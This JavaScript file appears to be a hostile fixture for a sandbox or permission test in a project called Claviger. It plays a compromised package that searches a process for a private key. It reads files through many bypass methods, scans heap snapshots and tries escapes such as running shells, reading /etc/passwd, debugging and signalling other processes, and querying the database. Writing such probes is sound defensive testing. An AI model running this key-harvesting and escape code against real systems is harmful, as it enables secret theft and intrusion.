// What an attacker's code does once it runs inside a process of Claviger, e.g. from a poisoned package: looks for the
// private key of the `call` keyset in all that it can reach, and tries to get out. Handed over as a data: URL, it needs
// no file. It waits for a message, so that it attacks a process that has started up and holds all that it ever will.
import { createHash, createPrivateKey, createPublicKey } from 'node:crypto';
import fs from 'node:fs';
import { createRequire } from 'node:module';

const found = new Set();
const examined = new Set();
const outcomes = {};
let wanted = '';

process.on('message', (message) => {
  if (message?.attack) attack(message.attack).then((report) => process.send({ report }));
});

async function attack(target) {
  wanted = target.keyId;
  harvest(Buffer.from(JSON.stringify([process.env, process.argv, process.execArgv])));
  for (const path of [...Object.values(process.env), ...target.paths]) await readEveryWay(path, target);
  for (let fd = 0; fd < 512; fd += 1)
    quietly(() => fs.fstatSync(fd).isFile() && harvest(fs.readFileSync(fd)));
  await harvestHeap();
  await breakOut(target);
  await askDatabase(target);
  return { found: [...found], outcomes };
}

async function readEveryWay(path, { root }) {
  const require = createRequire(`${root}/package.json`);
  const ways = {
    readFileSync: () => fs.readFileSync(path),
    'as bytes': () => fs.readFileSync(Buffer.from(path)),
    'as url': () => fs.readFileSync(new URL(`file://${path}`)),
    'by detour': () => fs.readFileSync(`${root}/dist/${'../'.repeat(30)}${path}`),
    'by descriptor': () => fs.readFileSync(fs.openSync(path, 'r')),
    promises: () => fs.promises.readFile(path),
    stream: async () => Buffer.concat(await Array.fromAsync(fs.createReadStream(path))),
    blob: async () => Buffer.from(await (await fs.openAsBlob(path)).arrayBuffer()),
    require: () => Buffer.from(JSON.stringify(require(path))),
    import: async () =>
      Buffer.from(JSON.stringify((await import(`file://${path}`, { with: { type: 'json' } })).default)),
    'env file': () => process.loadEnvFile(path) ?? Buffer.from(JSON.stringify(process.env)),
    link: () => Buffer.from(fs.readlinkSync(path)),
    copy: () => fs.copyFileSync(path, `${root}/dist/copied`) ?? fs.readFileSync(`${root}/dist/copied`),
    symlink: () => fs.symlinkSync(path, `${root}/dist/linked`) ?? fs.readFileSync(`${root}/dist/linked`),
  };
  for (const read of Object.values(ways)) {
    await quietlyAsync(async () => harvest(await read()));
  }
}

/** Takes every 32 bytes, raw, in hex and in base64url, for a private key and compares its name with the wanted one. */
function harvest(whole) {
  // No key file is larger, and a program that happens to be readable (Node's own) would keep it busy for minutes.
  const bytes = whole.subarray(0, 1 << 20);
  const print = createHash('sha256').update(bytes).digest('hex');
  if (examined.has(print)) return;
  examined.add(print);
  const material = bytes.subarray(0, 65_536);
  for (let at = 0; at + 32 <= material.length; at += 1) judge(material.subarray(at, at + 32));
  const text = bytes.toString('latin1');
  for (const [run] of text.matchAll(/[A-Za-z0-9_+/-]{43,}/g)) {
    for (let at = 0; at + 43 <= Math.min(run.length, 400); at += 1)
      judge(Buffer.from(run.slice(at, at + 43), 'base64url'));
  }
  for (const [run] of text.matchAll(/[0-9a-f]{64}/gi)) judge(Buffer.from(run, 'hex'));
}

function judge(bytes) {
  const der = Buffer.concat([Buffer.from('302e020100300506032b656e04220420', 'hex'), bytes]);
  const key = createPublicKey(createPrivateKey({ key: der, format: 'der', type: 'pkcs8' }));
  const half = key.export({ format: 'der', type: 'spki' }).subarray(-32);
  const name = createHash('sha256').update('claviger/local-key/1').update(half).digest('hex');
  if (name.startsWith(wanted)) found.add(bytes.toString('hex'));
}

/** Every string of the heap that has the form of a key. */
async function harvestHeap() {
  const { getHeapSnapshot } = await import('node:v8');
  let tail = '';
  const seen = new Set();
  for await (const chunk of getHeapSnapshot()) {
    const text = tail + chunk.toString('latin1');
    for (const [, token] of text.matchAll(/[^A-Za-z0-9_-]([A-Za-z0-9_-]{43})(?=[^A-Za-z0-9_-])/g))
      seen.add(token);
    tail = text.slice(-64);
  }
  for (const token of seen) judge(Buffer.from(token, 'base64url'));
  outcomes['heap strings examined'] = seen.size > 0 ? 'looked' : 'found no strings';
}

async function breakOut({ paths, bystander, root }) {
  const child = await import('node:child_process');
  const { Worker } = await import('node:worker_threads');
  const inspector = await import('node:inspector');
  const file = paths[0];
  await note('run a program', () => child.execFileSync('cat', [file]));
  await note('run a shell', () => child.execSync(`cat ${file}`));
  await note('fork node', () => child.fork('-e', ['0']));
  await note('start a worker', () => new Worker('0', { eval: true, execArgv: [] }));
  await note('open a debugger', () => inspector.open(0));
  await note('debug itself', () => new inspector.Session().connect());
  await note('load an addon', () => process.dlopen({ exports: {} }, `${root}/node_modules/none.node`));
  await note('bind to internals', () => process.binding('fs').internalModuleReadJSON(file));
  await note('write a file', () => fs.writeFileSync(`${root}/dist/hostile.js`, ''));
  await note('write a heap snapshot', async () =>
    (await import('node:v8')).writeHeapSnapshot('/tmp/hostile.heap'),
  );
  await note('write a report', () => {
    process.report.directory = '/tmp';
    if (process.report.writeReport() === '') throw new Error('nothing was written');
  });
  await note('load WASI with a folder', async () => {
    const { WASI } = await import('node:wasi');
    return new WASI({ version: 'preview1', preopens: { '/': '/' } });
  });
  await note('read by SQLite', async () => {
    const { DatabaseSync } = await import('node:sqlite');
    return new DatabaseSync(`${root}/dist/hostile.sqlite`);
  });
  for (const signal of ['SIGUSR1', 'SIGTERM', 0]) {
    await note(`signal ${signal}`, () => process.kill(bystander, signal));
    await note(`raw signal ${signal}`, () => process._kill(bystander, signal === 0 ? 0 : 10));
  }
  await note('debug another process', () => process._debugProcess(bystander));
  await note('take the guard off', () => {
    delete process.kill;
    Object.defineProperty(process, 'kill', { value: () => true });
  });
  await note('write a trace', async () => {
    const tracing = (await import('node:trace_events')).createTracing({ categories: ['node.console'] });
    tracing.enable();
  });
  await note('replace itself', () => process.execve('/bin/true', ['true'], {}));
  await note('open a foreign file', () => fs.readFileSync('/etc/passwd'));
  await note('list the disk', () => fs.readdirSync('/'));
}

async function askDatabase({ root, queries }) {
  const { Client } = createRequire(`${root}/package.json`)('pg');
  for (const query of queries) {
    const client = new Client({ connectionString: process.env.DATABASE_URL });
    await client.connect();
    await note(query, () => client.query(query));
    await client.end();
  }
}

async function note(name, act) {
  try {
    await act();
    outcomes[name] = 'worked';
  } catch (error) {
    outcomes[name] = `refused: ${error.code ?? error.message}`;
  }
}

function quietly(act) {
  try {
    act();
  } catch {
    // Refused: the next way.
  }
}

async function quietlyAsync(act) {
  try {
    await act();
  } catch {
    // Refused: the next way.
  }
}
